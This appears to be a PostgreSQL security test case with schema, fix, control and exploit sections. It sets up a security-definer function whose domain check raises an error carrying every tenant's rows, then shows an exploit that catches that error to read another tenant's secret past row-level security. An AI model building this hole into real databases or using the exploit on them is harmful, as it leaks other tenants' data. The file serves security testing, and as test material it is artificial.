-- What: A variable's type checks its values by a function that says what it reads.
-- Class: function_definer
-- Object: public.numbered
-- Exploit: Call it, and have it refuse.
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to app_user;
-- @superuser
create function known(n text) returns boolean language plpgsql stable as $$
begin
  raise exception '%', (select string_agg(body, ',') from public.items);
end $$;
create domain number as text check (known(value));
create function numbered(n text) returns text language plpgsql security definer set search_path = public, pg_temp as $$
declare
  d number;
begin
  d := n;
  return d;
end $$;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
revoke execute on function numbered(text) from public;
-- @control
select from items where tenant_id = :'A';
-- @exploit
create function pg_temp.message() returns text language plpgsql as $$
begin
  perform numbered('1');
  return null;
exception when others then
  return sqlerrm;
end $$;
select m from pg_temp.message() m where m like '%B-secret%';
